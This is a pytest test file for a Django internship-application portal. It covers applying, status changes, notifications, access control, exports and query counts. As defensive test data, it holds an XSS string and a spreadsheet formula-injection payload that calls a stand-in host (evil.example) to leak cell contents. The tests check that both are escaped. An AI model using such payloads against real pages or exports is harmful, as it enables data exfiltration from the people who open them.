"""The application pages on the web: apply, follow, read and answer, export, and who may see what.

The pages are read in English (the msgids) unless a test says otherwise; e-mails follow each recipient's language.
"""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core import mail
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.formats import date_format

from portal.accounts.models import SchoolStaff, Student, User
from portal.recruitment import services
from portal.recruitment.models import Application, ApplicationDocument
from portal.reference.choices import ApplicationStatus as A
from portal.reference.choices import DocumentKind
from tests.factories import CompanyFactory, ProgrammeFactory, UserFactory, company_admin, school_staff, student
from tests.recruitment.files import cv, letter, pdf_bytes, private_files, upload
from tests.recruitment.fixtures import published_offer


@pytest.fixture(autouse=True)
def _english_pages(client):
    """The pages in English, so that the assertions read the msgids."""
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"


@pytest.fixture
def application(applicant, offer):
    """The applicant's application to the author's offer, sent through the service, not read yet."""
    return services.apply(
        applicant,
        offer=offer,
        message="Madame, Monsieur, je souhaite rejoindre votre équipe.",
        cv=cv(),
        motivation_letter=letter(),
    )


# URLs, as the pages link them.


def detail_url(application) -> str:
    return f"/candidatures/{application.pk}/"


def company_url(company) -> str:
    return f"/candidatures/entreprises/{company.pk}/"


def export_url(company, fmt: str) -> str:
    return f"/candidatures/entreprises/{company.pk}/export.{fmt}"


def document_url(application, document) -> str:
    return f"/candidatures/{application.pk}/documents/{document.pk}/"


def status_url(application) -> str:
    return f"/candidatures/{application.pk}/statut/"


def withdraw_url(application) -> str:
    return f"/candidatures/{application.pk}/retrait/"


def message_url(application) -> str:
    return f"/candidatures/{application.pk}/message/"


# What a user sees.


def post(client, on_commit, user, url, data=None):
    """`user` posts the form; the e-mails of the request land in mail.outbox (and only them)."""
    client.force_login(user)
    mail.outbox.clear()
    with on_commit():
        return client.post(url, data or {})


def get(client, on_commit, user, url, **params):
    """`user` opens the page; the e-mails the opening sends land in mail.outbox (and only them)."""
    client.force_login(user)
    mail.outbox.clear()
    with on_commit():
        return client.get(url, params)


def recipients() -> list[str]:
    return sorted(address for message in mail.outbox for address in message.to)


def notices(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def html(response) -> str:
    return response.content.decode()


def rows(response) -> list[int]:
    return [application.pk for application in response.context["page"]]


def status_badge(status: str, label: str) -> str:
    return f'<span class="status status--{status}">{label}</span>'


def field_group(content: str, name: str) -> str:
    """The `<div class="field">` of the page that holds the input named `name`."""
    groups = [group for group in content.split('<div class="field">')[1:] if f'name="{name}"' in group]
    assert len(groups) == 1, f"one field group for {name}"
    return groups[0]


def short_date(moment) -> str:
    with translation.override("en"):
        return date_format(timezone.localtime(moment), "SHORT_DATE_FORMAT")


# The student's side: find, apply, follow.


@pytest.mark.django_db
def test_search_page_lists_the_offer_matching_the_words_and_the_sector(client, company, author, applicant):
    python = published_offer(company, author, title="Développeur Python", sector_id="62")
    accounting = published_offer(company, author, title="Comptable", sector_id="69", mission="Tenir la comptabilité.")
    other_sector = published_offer(company, author, title="Développeur Python junior", sector_id="69")
    client.force_login(applicant)

    response = client.get("/offres/", {"q": "python", "sector": "62"})

    assert response.status_code == 200
    assert [offer.pk for offer in response.context["offers"]] == [python.pk]
    assert f'href="{python.url}"' in html(response)
    assert f'href="{accounting.url}"' not in html(response)
    assert f'href="{other_sector.url}"' not in html(response)


@pytest.mark.django_db
def test_offer_page_offers_a_sign_in_link_to_an_anonymous_visitor(client, offer):
    response = client.get(offer.url)

    assert response.status_code == 200
    assert f'href="{reverse("accounts:login")}?next={offer.url}"' in html(response)
    assert "Sign in to apply" in html(response)
    assert f"/candidatures/postuler/{offer.pk}/" not in html(response)


@pytest.mark.django_db
def test_offer_page_offers_the_apply_button_to_a_student(client, offer, applicant):
    client.force_login(applicant)

    response = client.get(offer.url)

    assert response.status_code == 200
    assert f'<a class="button" href="/candidatures/postuler/{offer.pk}/">Apply</a>' in html(response)
    assert "Sign in to apply" not in html(response)


@pytest.mark.django_db
def test_company_contact_sees_no_apply_button_and_may_not_open_the_form(client, offer, admin):
    client.force_login(admin)

    page = client.get(offer.url)
    form = client.get(f"/candidatures/postuler/{offer.pk}/")

    assert "Applications are sent from a student account." in html(page)
    assert f"/candidatures/postuler/{offer.pk}/" not in html(page)
    assert form.status_code == 403


@pytest.mark.django_db
def test_student_applies_with_real_pdfs_and_lands_on_the_application_page(client, on_commit, offer, author, applicant):
    client.force_login(applicant)
    form = client.get(f"/candidatures/postuler/{offer.pk}/")
    assert form.status_code == 200
    assert 'enctype="multipart/form-data"' in html(form)
    assert offer.title in html(form)

    sent = post(
        client,
        on_commit,
        applicant,
        f"/candidatures/postuler/{offer.pk}/",
        {"message": "Madame, Monsieur, je suis motivé.", "cv": cv("Talel-CV.pdf"), "motivation_letter": letter()},
    )

    application = Application.objects.get(student=applicant, offer=offer)
    assert sent.status_code == 302
    assert sent["Location"] == detail_url(application)
    assert notices(sent) == ["Your application was sent. You will be told of each change of its status."]
    assert recipients() == [author.email]
    assert offer.title in mail.outbox[0].subject
    page = client.get(sent["Location"])
    assert page.status_code == 200
    assert "Your application was sent." in html(page)
    assert status_badge("pending", "Pending") in html(page)
    assert "Madame, Monsieur, je suis motivé." in html(page)
    documents = {document.kind: document for document in application.documents.all()}
    assert {kind: document.name for kind, document in documents.items()} == {
        DocumentKind.CV: "Talel-CV.pdf",
        DocumentKind.MOTIVATION_LETTER: "lettre.pdf",
    }
    assert f'href="{document_url(application, documents[DocumentKind.CV])}"' in html(page)
    download = client.get(document_url(application, documents[DocumentKind.CV]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == pdf_bytes("Curriculum vitae")
    assert download["Content-Disposition"].startswith("attachment;")


@pytest.mark.django_db
def test_offer_page_shows_the_students_application_and_its_status_instead_of_the_button(
    client, offer, applicant, application
):
    client.force_login(applicant)

    response = client.get(offer.url)

    assert f"You applied on {short_date(application.created_at)}." in html(response)
    assert status_badge("pending", "Pending") in html(response)
    assert f'href="{detail_url(application)}"' in html(response)
    assert f"/candidatures/postuler/{offer.pk}/" not in html(response)


@pytest.mark.django_db
def test_my_applications_lists_the_application_with_its_status(client, offer, author, applicant, application):
    services.change_status(application, A.INTERVIEW, by=author)
    client.force_login(applicant)

    response = client.get("/candidatures/")

    assert response.status_code == 200
    assert rows(response) == [application.pk]
    row = html(response).split("<tbody>")[1]
    assert offer.title in row
    assert offer.company.title in row
    assert short_date(application.created_at) in row
    assert status_badge("interview", "Interview") in row
    assert f'href="{detail_url(application)}"' in row


@pytest.mark.django_db
def test_my_applications_filters_by_status(client, company, author, applicant, application):
    other = services.apply(
        applicant, offer=published_offer(company, author, title="Data analyst"), cv=cv(), motivation_letter=letter()
    )
    services.change_status(other, A.INTERVIEW, by=author)
    client.force_login(applicant)

    response = client.get("/candidatures/", {"status": "interview"})

    assert rows(response) == [other.pk]
    assert '<option value="interview" selected>' in html(response)


@pytest.mark.django_db
def test_applying_again_leads_to_the_application_already_sent(client, offer, applicant, application):
    client.force_login(applicant)

    response = client.get(f"/candidatures/postuler/{offer.pk}/")

    assert response.status_code == 302
    assert response["Location"] == detail_url(application)
    assert notices(response) == ["You have already applied: here is your application."]
    assert Application.objects.filter(student=applicant).count() == 1


@pytest.mark.django_db
def test_apply_form_keeps_the_message_and_shows_the_missing_cv_next_to_its_field(client, settings, offer, applicant):
    client.force_login(applicant)

    response = client.post(
        f"/candidatures/postuler/{offer.pk}/",
        {"message": "Je suis motivé par la e-santé.", "motivation_letter": letter()},
    )

    assert response.status_code == 200
    assert response.context["form"].errors == {"cv": ["A CV is required."]}
    assert "Je suis motivé par la e-santé.</textarea>" in html(response)
    cv_group = field_group(html(response), "cv")
    assert '<ul class="errorlist" id="id_cv_error"><li>A CV is required.</li></ul>' in cv_group
    assert 'aria-describedby="id_cv_helptext id_cv_error"' in cv_group
    assert "A CV is required." not in field_group(html(response), "message")
    assert not Application.objects.exists()
    assert private_files(settings.PRIVATE_ROOT) == []


@pytest.mark.django_db
def test_apply_form_shows_a_refused_file_next_to_its_field_and_stores_nothing(client, settings, offer, applicant):
    client.force_login(applicant)

    response = client.post(
        f"/candidatures/postuler/{offer.pk}/",
        {
            "message": "Voici mon dossier.",
            "cv": upload("cv.pdf", b"GIF89a not a document", "application/pdf"),
            "motivation_letter": letter(),
        },
    )

    assert response.status_code == 200
    error = "The file “cv.pdf” is not a PDF, DOCX or ODT document."
    assert response.context["form"].errors == {"cv": [error]}
    assert f'<ul class="errorlist" id="id_cv_error"><li>{error}</li></ul>' in field_group(html(response), "cv")
    assert "Voici mon dossier.</textarea>" in html(response)
    assert not Application.objects.exists()
    assert private_files(settings.PRIVATE_ROOT) == []


# The company's side: the list, reading, answering.


@pytest.mark.django_db
def test_authors_list_shows_date_offer_student_documents_and_pending_status(
    client, company, offer, author, application
):
    client.force_login(author)

    response = client.get(company_url(company))

    assert response.status_code == 200
    assert rows(response) == [application.pk]
    row = html(response).split("<tbody>")[1]
    cv_document, letter_document = application.cv, application.motivation_letter
    assert short_date(application.created_at) in row
    assert f'<a href="?tab=offers&amp;offer={offer.pk}">{offer.title}</a>' in row
    assert "Talel Jlassi" in row
    assert f'href="{document_url(application, cv_document)}" download>cv.pdf</a>' in row
    assert f'href="{document_url(application, letter_document)}" download>lettre.pdf</a>' in row
    assert status_badge("pending", "Pending") in row
    assert f'href="{detail_url(application)}"' in row
    assert f'href="{detail_url(application)}#contact"' in row
    assert f'href="{detail_url(application)}#status"' in row


GUIDE_LABELS = {
    A.PENDING: "En cours",
    A.READ: "Lue",
    A.INTERVIEW: "Rendez-vous",
    A.ACCEPTED: "Satisfaite",
    A.CANCELLED: "Annulée",
}


@pytest.mark.django_db
@pytest.mark.parametrize("status", list(GUIDE_LABELS))
def test_company_list_in_french_uses_the_words_of_the_users_guide(client, company, admin, application, status):
    Application.objects.filter(pk=application.pk).update(status=status)
    client.force_login(admin)

    response = client.get(company_url(company), HTTP_ACCEPT_LANGUAGE="fr")

    content = html(response)
    assert status_badge(status, GUIDE_LABELS[status]) in content
    assert "Réponses à mes offres" in content
    assert "Candidatures spontanées" in content
    row = content.split("<tbody>")[1]
    assert ">Voir<" in row
    assert "Contactez l’étudiant" in row


@pytest.mark.django_db
def test_the_students_message_is_shown_as_text_not_as_markup(client, offer, author, applicant):
    application = services.apply(
        applicant, offer=offer, message="<script>alert(1)</script>", cv=cv(), motivation_letter=letter()
    )
    client.force_login(author)

    response = client.get(detail_url(application))

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html(response)
    assert "<script>alert(1)</script>" not in html(response)


@pytest.mark.django_db
def test_opening_the_application_marks_it_read_and_tells_the_student_and_the_tutor(
    client, on_commit, company, author, applicant, tutor, application
):
    opened = get(client, on_commit, author, detail_url(application))

    assert opened.status_code == 200
    assert status_badge("read", "Read") in html(opened)
    assert recipients() == sorted([applicant.email, tutor.email])
    assert all(application.offer.title in message.subject for message in mail.outbox)
    listed = client.get(company_url(company))
    assert status_badge("read", "Read") in html(listed)
    application.refresh_from_db()
    assert application.status == A.READ and application.read_at is not None


@pytest.mark.django_db
def test_a_superuser_opening_the_application_leaves_it_unread(client, on_commit, applicant, tutor, application):
    superuser = UserFactory(is_superuser=True, is_staff=True)

    opened = get(client, on_commit, superuser, detail_url(application))

    assert opened.status_code == 200
    assert status_badge("pending", "Pending") in html(opened)
    assert mail.outbox == []
    application.refresh_from_db()
    assert application.status == A.PENDING and application.read_at is None
    assert not application.events.filter(after=A.READ).exists()


@pytest.mark.django_db
def test_a_superuser_who_administers_the_company_marks_it_read_as_its_administrator(
    client, on_commit, company, applicant, application
):
    administrator = company_admin(company, is_superuser=True, is_staff=True)

    get(client, on_commit, administrator, detail_url(application))

    application.refresh_from_db()
    assert application.status == A.READ


@pytest.mark.django_db
def test_opening_the_application_again_sends_nothing_more(client, on_commit, author, applicant, tutor, application):
    get(client, on_commit, author, detail_url(application))

    again = get(client, on_commit, author, detail_url(application))

    assert again.status_code == 200
    assert mail.outbox == []
    assert application.events.filter(after=A.READ).count() == 1


@pytest.mark.django_db
def test_downloading_the_cv_from_the_list_marks_the_application_read(client, on_commit, author, applicant, application):
    response = get(client, on_commit, author, document_url(application, application.cv))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf_bytes("Curriculum vitae")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert 'filename="cv.pdf"' in response["Content-Disposition"]
    application.refresh_from_db()
    assert application.status == A.READ
    assert recipients() == [applicant.email]


@pytest.mark.django_db
def test_company_moves_the_application_to_interview_then_accepted_with_comments(
    client, on_commit, author, applicant, tutor, application
):
    page = get(client, on_commit, author, detail_url(application))
    assert f'action="{status_url(application)}"' in html(page)
    assert '<option value="interview">Interview</option>' in html(page)

    for status, label, comment in (
        ("interview", "Interview", "Rendez-vous lundi à 10 h, rue des Pôles 3."),
        ("accepted", "Accepted", "Bienvenue chez Talos !"),
    ):
        changed = post(client, on_commit, author, status_url(application), {"status": status, "comment": comment})

        assert changed.status_code == 302
        assert changed["Location"] == detail_url(application)
        assert recipients() == sorted([applicant.email, tutor.email])
        assert all(comment in message.body for message in mail.outbox)
        shown = html(client.get(changed["Location"]))
        assert f"The application is now “{label}”; the student was told." in shown
        assert status_badge(status, label) in shown

    history = html(client.get(detail_url(application))).split('id="history-title"')[1]
    steps = [
        "Application sent",
        "from “Pending” to “Read”",
        "from “Read” to “Interview”",
        "Rendez-vous lundi à 10 h, rue des Pôles 3.",
        "from “Interview” to “Accepted”",
        "Bienvenue chez Talos !",
    ]
    positions = [history.index(step) for step in steps]
    assert positions == sorted(positions)
    application.refresh_from_db()
    assert application.status == A.ACCEPTED


@pytest.mark.django_db
def test_status_form_offers_only_the_statuses_allowed_now(client, author, application):
    services.change_status(application, A.ACCEPTED, by=author)
    client.force_login(author)

    response = client.get(detail_url(application))

    assert [value for value, _label in response.context["status_form"].fields["status"].choices] == ["cancelled"]
    assert '<option value="interview">' not in html(response)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("posted", "error"),
    [
        ("interview", "An application cannot go from “Accepted” to “Interview”."),
        ("read", "Choose one of these statuses: interview, accepted, cancelled."),
        ("hired", "Choose a status."),
    ],
    ids=["backwards", "read-by-hand", "unknown"],
)
def test_a_status_not_allowed_shows_an_error_and_changes_nothing(client, on_commit, author, application, posted, error):
    services.change_status(application, A.ACCEPTED, by=author)
    events = application.events.count()

    response = post(client, on_commit, author, status_url(application), {"status": posted, "comment": "Oups"})

    assert response.status_code == 302
    assert response["Location"] == detail_url(application)
    assert notices(response) == [error]
    application.refresh_from_db()
    assert application.status == A.ACCEPTED
    assert application.events.count() == events
    assert mail.outbox == []
    page = client.get(response["Location"])
    assert f'<li class="message message--error">{error}</li>' in html(page)


@pytest.mark.django_db
def test_contacting_the_student_sends_an_email_and_shows_the_message(client, on_commit, author, applicant, application):
    sent = post(client, on_commit, author, message_url(application), {"body": "Pouvez-vous venir jeudi à 14 h ?"})

    assert sent.status_code == 302
    assert sent["Location"] == detail_url(application) + "#contact"
    assert notices(sent) == ["Your message was sent to the student by e-mail."]
    assert recipients() == [applicant.email]
    assert "Pouvez-vous venir jeudi à 14 h ?" in mail.outbox[0].body
    for reader in (author, applicant):
        client.force_login(reader)
        contact = html(client.get(detail_url(application))).split('id="contact"')[1]
        assert "Pouvez-vous venir jeudi à 14 h ?" in contact
        assert "Valentin Bouquet" in contact


@pytest.mark.django_db
def test_an_empty_message_to_the_student_is_refused(client, on_commit, author, application):
    response = post(client, on_commit, author, message_url(application), {"body": "   "})

    assert response.status_code == 302
    assert notices(response) == ["Write a message."]
    assert mail.outbox == []
    assert not application.messages.exists()


@pytest.mark.django_db
def test_student_sees_each_status_and_its_comment_on_their_application_page(client, author, applicant, application):
    client.force_login(applicant)
    assert status_badge("pending", "Pending") in html(client.get(detail_url(application)))

    services.open_application(application, by=author)
    assert status_badge("read", "Read") in html(client.get(detail_url(application)))

    services.change_status(application, A.INTERVIEW, by=author, comment="Entretien mardi à 9 h.")
    page = html(client.get(detail_url(application)))
    assert status_badge("interview", "Interview") in page
    assert "Entretien mardi à 9 h." in page

    services.change_status(application, A.ACCEPTED, by=author, comment="Vous êtes retenu.")
    page = html(client.get(detail_url(application)))
    assert status_badge("accepted", "Accepted") in page
    assert "Vous êtes retenu." in page
    assert f'action="{status_url(application)}"' not in page
    assert f'action="{message_url(application)}"' not in page
    application.refresh_from_db()
    assert application.status == A.ACCEPTED  # the student's reading changes nothing


@pytest.mark.django_db
def test_student_withdraws_and_the_withdraw_form_is_gone(client, on_commit, author, applicant, tutor, application):
    client.force_login(applicant)
    assert f'action="{withdraw_url(application)}"' in html(client.get(detail_url(application)))

    response = post(client, on_commit, applicant, withdraw_url(application), {"comment": "Un autre stage me convient."})

    assert response.status_code == 302
    assert notices(response) == ["Your application was withdrawn."]
    application.refresh_from_db()
    assert application.status == A.CANCELLED
    assert recipients() == sorted([author.email, tutor.email])
    assert all("Un autre stage me convient." in message.body for message in mail.outbox)
    page = html(client.get(detail_url(application)))
    assert status_badge("cancelled", "Cancelled") in page
    assert f'action="{withdraw_url(application)}"' not in page


@pytest.mark.django_db
def test_after_withdrawing_the_offer_page_offers_to_apply_again(client, offer, applicant, application):
    services.withdraw(application, by=applicant)
    client.force_login(applicant)

    response = client.get(offer.url)

    assert f'href="/candidatures/postuler/{offer.pk}/"' in html(response)
    assert "You applied on" not in html(response)


@pytest.mark.django_db
def test_tutor_follows_the_students_application_on_the_follow_up_page(client, offer, applicant, tutor, application):
    client.force_login(tutor)

    response = client.get("/candidatures/suivi/")

    assert response.status_code == 200
    assert rows(response) == [application.pk]
    row = html(response).split("<tbody>")[1]
    assert "Talel Jlassi" in row
    assert "Génie logiciel" in row
    assert offer.title in row
    assert status_badge("pending", "Pending") in row
    assert f'href="{detail_url(application)}"' in row


@pytest.mark.django_db
def test_tutors_application_page_has_no_status_form_and_reading_it_changes_nothing(client, tutor, application):
    client.force_login(tutor)

    response = client.get(detail_url(application))

    assert response.status_code == 200
    assert response.context["status_form"] is None
    assert f'action="{status_url(application)}"' not in html(response)
    assert f'action="{message_url(application)}"' not in html(response)
    assert f'action="{withdraw_url(application)}"' not in html(response)
    assert "Madame, Monsieur, je souhaite rejoindre votre équipe." in html(response)
    application.refresh_from_db()
    assert application.status == A.PENDING


@pytest.mark.django_db
def test_tutor_may_not_set_a_status(client, on_commit, tutor, application):
    response = post(client, on_commit, tutor, status_url(application), {"status": "accepted"})

    assert response.status_code == 403
    application.refresh_from_db()
    assert application.status == A.PENDING
    assert mail.outbox == []


@pytest.mark.django_db
def test_tutor_of_another_programme_does_not_see_the_application(client, applicant, application):
    programme = ProgrammeFactory()
    other_tutor = school_staff(programme.organisation, role=SchoolStaff.Role.ACADEMIC_TUTOR, programme=programme)
    client.force_login(other_tutor)

    assert rows(client.get("/candidatures/suivi/")) == []
    assert client.get(detail_url(application)).status_code == 404


@pytest.mark.django_db
def test_my_applications_address_leads_each_role_to_its_list(client, company, admin, tutor):
    client.force_login(tutor)
    assert client.get("/candidatures/")["Location"] == "/candidatures/suivi/"
    client.force_login(admin)
    assert client.get("/candidatures/")["Location"] == company_url(company)
    client.logout()
    assert client.get("/candidatures/")["Location"].startswith(reverse("accounts:login"))


# Spontaneous applications.


@pytest.mark.django_db
def test_company_page_offers_a_spontaneous_application_to_a_student(client, company, applicant, admin):
    client.force_login(applicant)
    assert f'href="/candidatures/spontanee/{company.pk}/">Apply spontaneously</a>' in html(client.get(company.url))

    client.force_login(admin)
    assert f"/candidatures/spontanee/{company.pk}/" not in html(client.get(company.url))

    client.logout()
    anonymous = html(client.get(company.url))
    assert f"/candidatures/spontanee/{company.pk}/" not in anonymous
    assert f'href="{reverse("accounts:login")}?next={company.url}">Sign in to apply</a>' in anonymous


@pytest.mark.django_db
def test_spontaneous_application_reaches_the_administrators_tab_and_mailbox(
    client, on_commit, company, offer, admin, author, applicant
):
    client.force_login(applicant)
    form = client.get(f"/candidatures/spontanee/{company.pk}/")
    assert form.status_code == 200
    assert "Spontaneous application" in html(form)

    sent = post(
        client,
        on_commit,
        applicant,
        f"/candidatures/spontanee/{company.pk}/",
        {"message": "Je cherche un stage en e-santé.", "cv": cv(), "motivation_letter": letter()},
    )

    application = Application.objects.get(student=applicant, offer__isnull=True, company=company)
    assert sent["Location"] == detail_url(application)
    assert recipients() == [admin.email]
    assert "Talel Jlassi" in mail.outbox[0].subject
    client.force_login(admin)
    tab = client.get(f"/espace/entreprises/{company.pk}/offres/", {"tab": "spontaneous"})
    assert tab.context["tab"] == "spontaneous"
    assert rows(tab) == [application.pk]
    assert ("spontaneous", 1) in [(key, count) for key, _label, count in tab.context["tabs"]]
    assert status_badge("pending", "Pending") in html(tab)
    assert rows(client.get(company_url(company), {"tab": "offers"})) == []


@pytest.mark.django_db
def test_secondary_contact_gets_no_spontaneous_tab(client, company, admin, author, applicant, application):
    spontaneous = services.apply(applicant, company=company, cv=cv(), motivation_letter=letter())
    client.force_login(author)

    response = client.get(company_url(company), {"tab": "spontaneous"})

    assert response.status_code == 200
    assert response.context["tab"] == "offers"
    assert rows(response) == [application.pk]
    assert spontaneous.pk not in rows(response)
    assert f'href="/espace/entreprises/{company.pk}/offres/?tab=spontaneous"' not in html(response)
    assert [key for key, _label, _count in response.context["tabs"]] == ["offers"]
    assert client.get(detail_url(spontaneous)).status_code == 404


@pytest.mark.django_db
def test_dashboard_links_to_each_ones_applications(client, company, admin, author, applicant):
    client.force_login(applicant)
    assert 'href="/candidatures/"' in html(client.get("/comptes/mon-compte/"))
    client.force_login(admin)
    assert f'href="/espace/entreprises/{company.pk}/offres/?tab=spontaneous"' in html(
        client.get("/comptes/mon-compte/")
    )
    client.force_login(author)
    dashboard = html(client.get("/comptes/mon-compte/"))
    assert f'href="{company_url(company)}"' in dashboard
    assert "?tab=spontaneous" not in dashboard


# Who may see what.


@pytest.mark.django_db
def test_member_of_another_company_gets_404_on_the_list_the_application_the_document_and_the_export(
    client, on_commit, company, application
):
    outsider = company_admin(CompanyFactory())
    client.force_login(outsider)

    assert client.get(company_url(company)).status_code == 404
    assert client.get(detail_url(application)).status_code == 404
    assert client.get(document_url(application, application.cv)).status_code == 404
    assert client.get(export_url(company, "csv")).status_code == 404
    assert client.get(export_url(company, "xlsx")).status_code == 404
    assert post(client, on_commit, outsider, status_url(application), {"status": "accepted"}).status_code == 404
    assert post(client, on_commit, outsider, message_url(application), {"body": "Bonjour"}).status_code == 404
    application.refresh_from_db()
    assert application.status == A.PENDING
    assert mail.outbox == []


@pytest.mark.django_db
def test_student_gets_404_on_another_students_application(client, on_commit, programme, application):
    other = student(programme)
    client.force_login(other)

    assert client.get(detail_url(application)).status_code == 404
    assert client.get(document_url(application, application.cv)).status_code == 404
    assert post(client, on_commit, other, withdraw_url(application)).status_code == 404
    application.refresh_from_db()
    assert application.status == A.PENDING


@pytest.mark.django_db
def test_author_may_not_list_an_offer_outside_their_scope(client, company, author, admin):
    admins_offer = published_offer(company, admin, title="Offre de l'administratrice")
    client.force_login(author)

    assert client.get(company_url(company), {"offer": admins_offer.pk}).status_code == 404


@pytest.mark.django_db
def test_workspace_offers_table_links_the_number_of_applications_to_the_filtered_list(
    client, company, offer, author, programme, applicant, application
):
    services.apply(student(programme), offer=offer, cv=cv(), motivation_letter=letter())
    other_offer = published_offer(company, author, title="Data analyst")
    elsewhere = services.apply(applicant, offer=other_offer, cv=cv(), motivation_letter=letter())
    client.force_login(author)

    workspace = html(client.get(f"/espace/entreprises/{company.pk}/offres/", {"tab": "current"}))

    link = f"{company_url(company)}?tab=offers&amp;offer={offer.pk}"
    assert re.search(re.escape(f'<a href="{link}">') + r"\s*2 applications</a>", workspace)
    assert '<span class="badge">2 new</span>' in workspace
    filtered = client.get(company_url(company), {"tab": "offers", "offer": offer.pk})
    assert filtered.status_code == 200
    assert sorted(rows(filtered)) == sorted(Application.objects.filter(offer=offer).values_list("pk", flat=True))
    assert elsewhere.pk not in rows(filtered)
    assert offer.title in html(filtered).split('class="page-header')[1].split("</header>")[0]


# Exports.


def export_bytes(response) -> bytes:
    """The streamed file, read once and kept on the response (a stream is read only once)."""
    if "_export_bytes" not in response.__dict__:
        response.__dict__["_export_bytes"] = response.getvalue()
    return response.__dict__["_export_bytes"]


def export_rows_csv(response) -> list[list[str]]:
    assert export_bytes(response).startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(export_bytes(response).decode("utf-8-sig"))))


def export_rows_xlsx(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(export_bytes(response))).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


EXPORT_READERS = {"csv": export_rows_csv, "xlsx": export_rows_xlsx}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_an_offer_holds_the_students_name_email_and_status(
    client, company, offer, author, applicant, application, fmt
):
    services.change_status(application, A.INTERVIEW, by=author)
    published_offer(company, author, title="Data analyst")
    client.force_login(author)

    response = client.get(export_url(company, fmt), {"tab": "offers", "offer": offer.pk})

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(f'attachment; filename="candidatures-{offer.number}-')
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    header, *lines = EXPORT_READERS[fmt](response)
    assert len(lines) == 1
    row = dict(zip(header, lines[0], strict=True))
    assert row["Student"] == "Talel Jlassi"
    assert row["E-mail"] == "talel@student.test"
    assert row["Status"] == "Interview"
    assert row["Offer"] == offer.title
    assert row["CV"] == "cv.pdf"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_writes_a_formula_looking_message_as_text(client, company, offer, author, applicant, fmt):
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Voir le CV")'
    services.apply(applicant, offer=offer, message=formula, cv=cv(), motivation_letter=letter())
    client.force_login(author)

    response = client.get(export_url(company, fmt), {"offer": offer.pk})

    header, line = EXPORT_READERS[fmt](response)
    message = line[header.index("Message")]
    assert message == "'" + formula
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(export_bytes(response))).active
        assert sheet.cell(row=2, column=header.index("Message") + 1).data_type == "s"


@pytest.mark.django_db
def test_xlsx_export_survives_a_message_with_a_control_character(client, on_commit, company, offer, author, applicant):
    # A vertical tab is what a line break pasted from a word processor may carry.
    post(
        client,
        on_commit,
        applicant,
        f"/candidatures/postuler/{offer.pk}/",
        {"message": "Madame,\x0bje suis motivé.", "cv": cv(), "motivation_letter": letter()},
    )
    assert Application.objects.filter(offer=offer).exists()
    client.force_login(author)
    client.raise_request_exception = False

    response = client.get(export_url(company, "xlsx"), {"offer": offer.pk})

    assert response.status_code == 200
    header, line = export_rows_xlsx(response)
    assert line[header.index("Student")] == "Talel Jlassi"


# Query counts of the lists: the same whatever the number of applications.


def many_applications(offer, count: int, *, programme, first: int = 0) -> list[Application]:
    """`count` applications to `offer` from as many new students, each with a CV and a letter on disk."""
    users = User.objects.bulk_create(
        User(email=f"etudiant{n}@example.test", first_name=f"Prénom{n}", last_name=f"Nom{n}", password="!")
        for n in range(first, first + count)
    )
    Student.objects.bulk_create(
        Student(user=user, school=programme.organisation, programme=programme, study_level=programme.level)
        for user in users
    )
    statuses = [A.PENDING, A.READ, A.INTERVIEW, A.ACCEPTED, A.CANCELLED]
    applications = Application.objects.bulk_create(
        Application(student=user, offer=offer, company=offer.company, status=statuses[n % len(statuses)])
        for n, user in enumerate(users)
    )
    with_documents(applications)
    return applications


def student_applications(student_user, offer, count: int, *, alive: bool = True) -> list[Application]:
    """`count` applications of one student, to `offer` and spontaneous; one of each alive if `alive`, else withdrawn."""
    applications = Application.objects.bulk_create(
        Application(
            student=student_user,
            offer=offer if n % 2 else None,
            company=offer.company,
            status=A.INTERVIEW if alive and n < 2 else A.CANCELLED,
        )
        for n in range(count)
    )
    with_documents(applications)
    return applications


def with_documents(applications) -> None:
    documents = []
    for application in applications:
        for kind, name in ((DocumentKind.CV, "cv.pdf"), (DocumentKind.MOTIVATION_LETTER, "lettre.pdf")):
            content = pdf_bytes(name)
            document = ApplicationDocument(
                application=application, kind=kind, name=name, content_type="application/pdf", size=len(content)
            )
            document.file.save("document.pdf", ContentFile(content), save=False)
            documents.append(document)
    ApplicationDocument.objects.bulk_create(documents)


def queries_of(client, url, limit, django_assert_max_num_queries):
    """The page and the number of queries it ran (at most `limit`), once the caches of a first serving are warm."""
    client.get(url)
    with django_assert_max_num_queries(limit) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return response, len(captured.captured_queries)


# The signed-in user (2), the company, the membership, the right to spontaneous applications (2), the tab counts,
# the page count, the rows, their documents.
COMPANY_LIST_MAX_QUERIES = 10
# The signed-in user (2), the student profile, the page count, the rows, their documents.
STUDENT_LIST_MAX_QUERIES = 6


@pytest.mark.django_db
def test_company_list_runs_as_many_queries_for_200_applications_as_for_10(
    client, company, offer, admin, programme, django_assert_max_num_queries
):
    many_applications(offer, 10, programme=programme)
    client.force_login(admin)
    url = company_url(company)

    few, few_queries = queries_of(client, url, COMPANY_LIST_MAX_QUERIES, django_assert_max_num_queries)
    many_applications(offer, 190, programme=programme, first=10)
    many, many_queries = queries_of(client, url, COMPANY_LIST_MAX_QUERIES, django_assert_max_num_queries)

    assert (len(rows(few)), len(rows(many))) == (10, 20)
    assert many.context["page"].paginator.count == 200
    assert many_queries == few_queries
    assert html(many).count('class="document-link"') == 40


@pytest.mark.django_db
def test_student_list_runs_as_many_queries_for_200_applications_as_for_10(
    client, offer, applicant, django_assert_max_num_queries
):
    student_applications(applicant, offer, 10)
    client.force_login(applicant)

